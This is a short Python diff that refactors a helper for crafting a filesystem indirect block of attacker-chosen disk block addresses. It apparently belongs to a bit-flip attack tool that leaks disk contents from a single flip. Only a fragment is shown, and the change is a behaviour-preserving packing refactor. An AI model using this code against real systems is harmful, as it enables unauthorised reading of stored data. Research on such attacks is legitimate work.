@@ -39,13 +39,16 @@ def craft_indirect_block(
     dump many LBAs from one flip.
     """
     pointers_per_block = block_bytes // _PTR.size
-    if len(target_lbas) > pointers_per_block:
+    count = len(target_lbas)
+    if count > pointers_per_block:
         raise AttackError(
             "%d targets exceed the %d pointer slots of a block"
-            % (len(target_lbas), pointers_per_block)
+            % (count, pointers_per_block)
         )
-    pointers = list(target_lbas) + [fill_lba] * (pointers_per_block - len(target_lbas))
-    return struct.pack("<%dI" % pointers_per_block, *pointers)
+    # Only the targets are packed; the fill is one packed slot, repeated.
+    head = struct.pack("<%dI" % count, *target_lbas)
+    fill = pointers_per_block - count
+    return head + _PTR.pack(fill_lba) * fill if fill else head
 
 
 def read_indirect_block(raw: bytes) -> List[int]:
